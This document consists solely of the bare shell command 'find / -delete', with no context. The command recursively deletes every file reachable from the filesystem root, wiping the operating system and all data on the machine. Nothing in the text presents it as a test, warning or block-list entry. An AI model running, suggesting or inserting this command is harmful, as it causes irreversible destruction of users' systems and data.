find / -delete
